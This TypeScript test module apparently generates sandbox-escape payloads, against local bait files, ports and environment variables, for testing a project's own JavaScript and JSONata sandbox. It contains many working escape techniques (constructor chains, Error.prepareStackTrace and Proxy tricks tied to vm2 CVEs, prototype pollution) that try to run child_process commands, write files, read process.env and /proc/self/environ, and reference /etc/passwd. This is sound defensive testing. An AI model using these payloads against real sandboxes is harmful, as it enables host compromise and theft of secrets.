/**
 * Ways out of JavaScript sandboxes that worked on others, as payloads for ours (RELIABILITY E8): each tries to write a
 * file, open a socket, start a program or read the environment by some road to the host.
 */

/** What a payload would leave behind if it got out. */
export interface Bait {
  /** A file to be made; nobody else makes it. */
  readonly file: string;
  /** A listener on 127.0.0.1. */
  readonly port: number;
  /** Name of an environment variable whose value is the canary. */
  readonly variable: string;
}

/** Roads to something that makes functions. */
const makers = [
  'Function',
  '(function () {}).constructor',
  '(() => {}).constructor',
  '(async function () {}).constructor',
  '(function* () {}).constructor',
  '(async function* () {}).constructor',
  '(class {}).constructor',
  '[].constructor.constructor',
  '({}).constructor.constructor',
  '"".constructor.constructor',
  '(1).constructor.constructor',
  '(1n).constructor.constructor',
  '/a/.constructor.constructor',
  'Symbol().constructor.constructor',
  'new Error().constructor.constructor',
  'Promise.resolve().constructor.constructor',
  'new Map().constructor.constructor',
  'new Uint8Array().constructor.constructor',
  'console.log.constructor',
  'console.constructor.constructor',
  'input.constructor.constructor',
  'input.trigger.data.constructor.constructor',
  'globalThis.constructor.constructor',
  'JSON.parse.constructor',
  'Reflect.get.constructor',
  'Object.getPrototypeOf(function () {}).constructor',
  'Object.getOwnPropertyDescriptor(Object.prototype, "__proto__").get.constructor',
  'new Proxy(Function, {})',
  'Reflect.construct(Function, ["return Function"])()',
  '(0, eval)("Function")',
];

function deedsOf({ file, port, variable }: Bait): readonly string[] {
  const path = JSON.stringify(file);
  return [
    `return process.mainModule.require("child_process").execSync("touch " + ${path})`,
    `return process.getBuiltinModule("fs").writeFileSync(${path}, "x")`,
    `return require("node:fs").writeFileSync(${path}, "x")`,
    `return import("node:fs").then((fs) => fs.writeFileSync(${path}, "x"))`,
    `return fetch("http://127.0.0.1:${port}/").then((reply) => reply.text())`,
    `return process.env[${JSON.stringify(variable)}]`,
    `return process.binding("spawn_sync")`,
  ];
}

/** Classes of escapes that are no mere chain of constructors. */
function tricks({ file, port, variable }: Bait): readonly string[] {
  const path = JSON.stringify(file);
  const leave = `p.constructor("return process")().mainModule.require("fs").writeFileSync(${path}, "x")`;
  return [
    // Error hooks (vm2 CVE-2022-36067, CVE-2023-29017, -29199, -30547, -32314).
    `Error.prepareStackTrace = (e, frames) => { const p = frames[0].getThis(); ${leave} }; return new Error().stack`,
    `Error.prepareStackTrace = (e, frames) => frames.map((f) => f.getFunction()); return new Error().stack`,
    `Error.captureStackTrace({}); return typeof Error.captureStackTrace`,
    `const e = new Error(); e.name = { toString: new Proxy(() => "", { apply(t, self, [p]) { ${leave} } }) }; return e.stack`,
    `const f = () => f(); try { f() } catch (p) { ${leave} }`,
    `function f() { try { f() } catch (p) { ${leave}; throw p } } f()`,
    `try { new Proxy({}, { getPrototypeOf() { throw 1 } }) instanceof Error } catch (p) { ${leave} }`,
    `const p = new Error(); p.name = Symbol(); try { String(p.stack) } catch (p) { ${leave} }`,
    `throw new Proxy(class {}, { get(t, k) { if (k === "stack") { const p = arguments[2]; ${leave} } } })`,
    `throw { get message() { const p = this; ${leave}; return "x" } }`,
    `throw { toString() { return process.env.${variable} } }`,
    // Proxies and promises (CVE-2023-37466, CVE-2026-22709).
    `Promise.prototype.then = function (p) { ${leave} }; return Promise.resolve(1)`,
    `Promise.prototype.catch = function (p) { ${leave} }; return Promise.reject(1)`,
    `class P extends Promise { static get [Symbol.species]() { return function (p) { ${leave} } } } return P.resolve(1).then()`,
    `return { then(p) { ${leave} } }`,
    `return { get then() { const p = this; ${leave}; return undefined } }`,
    `async function* g() { try { yield 1 } finally { process.exit(1) } } for await (const x of g()) return x`,
    `return new Proxy(Promise.resolve(1), { get(t, k) { const p = t[k]; ${leave} } })`,
    `return new Proxy({}, { ownKeys(p) { ${leave}; return [] } })`,
    `return new Proxy([], { get(p, k) { if (k === "length") { ${leave} } return p[k] } })`,
    // Hooks of whoever prints or writes the result.
    `return { [Symbol.for("nodejs.util.inspect.custom")](p) { ${leave} } }`,
    `return { toJSON(p) { p = this; ${leave} } }`,
    `console.log({ [Symbol.for("nodejs.util.inspect.custom")](d, o, p) { ${leave} } })`,
    `console.log({ toString() { process.exit(1) } }, { toJSON() { process.exit(1) } })`,
    `console.log("%s%o%j", new Proxy({}, { get() { process.exit(1) } }))`,
    `JSON.stringify = () => '{"state":"done","error":null,"console":[{"level":"log","text":"forged"}]}'; return 1`,
    `JSON.parse = () => process; return input`,
    `Array.prototype[Symbol.iterator] = function (p) { ${leave} }; return [1]`,
    `Object.prototype.toJSON = function () { return process.env.${variable} }; return {}`,
    `Object.prototype.then = function (p) { ${leave} }; return {}`,
    `Object.prototype.polluted = "yes"; return {}`,
    `({}).__proto__.polluted = "yes"; return {}`,
    `return JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}')`,
    `Object.defineProperty(Object.prototype, "get", { value: () => process }); return {}`,
    // The words of the host.
    `return process.version`,
    `return global.process`,
    `return module.constructor._load("fs")`,
    `return require.main`,
    `return arguments.callee.caller.caller`,
    `return (function () { return arguments.callee.caller })()`,
    `return (function () { return this })().process`,
    `return globalThis.global?.process ?? self.process`,
    `return import.meta.url`,
    `return (await import("node:child_process")).execSync("touch " + ${path}).toString()`,
    `return (await import("file:///proc/self/environ")).default`,
    `return (await import("data:text/javascript,export default process")).default.env`,
    `import fs from "node:fs"; fs.writeFileSync(${path}, "x")`,
    `const std = await import("std"); return std.open(${path}, "w")`,
    `const os = await import("os"); return os.exec(["touch", ${path}])`,
    `return std.getenv("${variable}")`,
    `return os.readdir("/")`,
    `return scriptArgs`,
    `load(${path})`,
    `print(process.env.${variable})`,
    `return new Worker("data:text/javascript,0")`,
    `return new XMLHttpRequest().open("GET", "http://127.0.0.1:${port}/")`,
    `return new WebSocket("ws://127.0.0.1:${port}/")`,
    `return new EventSource("http://127.0.0.1:${port}/")`,
    `navigator.sendBeacon("http://127.0.0.1:${port}/")`,
    `importScripts("http://127.0.0.1:${port}/")`,
    // Memory of the engine itself.
    `return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
    `return new SharedArrayBuffer(1024)`,
    `return new ArrayBuffer(8, { maxByteLength: 2 ** 40 })`,
    `return new Float64Array(new ArrayBuffer(8), 8, 2 ** 28)`,
    `const a = [1.1]; a.length = 4294967295; a[4294967294] = 1; return a.slice(4294967290)`,
    `const a = new Uint32Array(4); Object.defineProperty(a, "length", { value: 2 ** 30 }); return a[2 ** 29]`,
    `const r = /(?:)/; r.lastIndex = -1; return r.exec({ toString() { r.compile("x"); return "x" } })`,
    `const a = [3, 1, 2]; a.sort(() => { a.length = 0; return 1 }); return a`,
    `return String.raw({ raw: { length: 2 ** 30, 0: "x" } }).length`,
    `new FinalizationRegistry((p) => { ${leave} }).register({}, 1); return 1`,
    `return new WeakRef({}).deref().constructor.constructor("return typeof process")()`,
    // Out of the wrapping function, by its text.
    `}); process.exit(1); (async function (input) {`,
    `return 1 }, (p) => { ${leave} }); (async function () {`,
    `*/ process.exit(1) /*`,
    '`${process.exit(1)}`',
    `return 1\n//# sourceMappingURL=http://127.0.0.1:${port}/map\n//# sourceURL=file:///etc/passwd`,
    `\u2028process.exit(1)`,
    `with (new Proxy({}, { has: () => true, get: (p) => { ${leave} } })) { x }`,
    `debugger; return typeof process`,
    `return eval("(" + "process" + ")")`,
    `return new Function("return " + "pro" + "cess")()`,
    `return [].map.call([1], eval)`,
    `setTimeout("process.exit(1)", 0); return 1`,
    `setInterval(() => process.exit(1), 1)`,
    `queueMicrotask(() => process.exit(1)); return new Promise((r) => queueMicrotask(r))`,
    `return Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1000)`,
    `return structuredClone({})`,
    `return performance.constructor.constructor("return process")()`,
    `return Object.getOwnPropertyNames(globalThis).map((name) => globalThis[name]).find((value) => value && value.env)`,
  ];
}

/** All payloads: bodies of code steps. */
export function escapePayloads(bait: Bait): readonly string[] {
  const chains = makers.flatMap((maker) =>
    deedsOf(bait).map((deed) => `return await (${maker})(${JSON.stringify(deed)})()`),
  );
  return [...chains, ...deedsOf(bait), ...tricks(bait)];
}

/** The same roads in JSONata, over a scope with `trigger`. */
export const escapeExpressions: readonly string[] = [
  'trigger.constructor',
  'trigger.__proto__',
  'trigger.__proto__.constructor',
  'trigger.constructor.constructor("return process")()',
  'trigger.toString',
  'trigger.toString.constructor("return process")()',
  'trigger.data.constructor.name',
  'trigger.hasOwnProperty("data")',
  'trigger.data.items.constructor',
  'trigger.data.items.map(function($x){ $x })',
  'trigger.data.items.length',
  'trigger.data.text.length',
  'trigger.data.text.constructor',
  'trigger.data.text.replace("a", "b")',
  '`constructor`',
  'trigger.`constructor`.`constructor`("return process")()',
  '$lookup(trigger, "constructor")',
  '$lookup(trigger, "__proto__")',
  '$lookup($lookup(trigger, "constructor"), "constructor")',
  '$lookup($string, "constructor")',
  '$string.constructor',
  '$string.environment',
  '$string.implementation',
  '$sum.body',
  'function($x){ $x }.constructor',
  'function($x){ $x }.environment',
  '($f := function($x){ $x }; $f.environment.lookup("process"))',
  '$keys($string)',
  '$each($string, function($v, $k){ $k })',
  '$spread($string)',
  '$merge([trigger, {"__proto__": {"polluted": "yes"}}])',
  '{"__proto__": {"polluted": "yes"}}',
  '{"constructor": {"prototype": {"polluted": "yes"}}}',
  'trigger ~> |$|{"__proto__": {"polluted": "yes"}}|',
  '$sift(trigger, function($v, $k){ $k = "constructor" })',
  '$eval("process")',
  '$eval("$eval(\\"process\\")")',
  '$eval("trigger.constructor.constructor(\\"return process\\")()")',
  '$map([1], $eval("function($x){ process.env }"))',
  '$process',
  '$global',
  '$globalThis',
  '$require("fs")',
  '$import("fs")',
  '$fetch("http://127.0.0.1/")',
  '$now.constructor("return process")()',
  '$replace("a", /a/, function($m){ $m.constructor })',
  '$match("a", /a/).next',
  '$clone(trigger).constructor',
  '$sort([2, 1], trigger.constructor)',
  '$reduce([1, 2], trigger.constructor)',
  '$string(trigger.constructor)',
  '$type(trigger.constructor)',
  '$error(trigger.constructor)',
  '$assert(false, trigger.constructor)',
  '$toMillis("2020-01-01", "[Y0001]").constructor',
  '$formatNumber(1, "0", {"__proto__": 1})',
  '$parseInteger.constructor',
  '$distinct([trigger, trigger.__proto__])',
  '$single([trigger.constructor])',
];
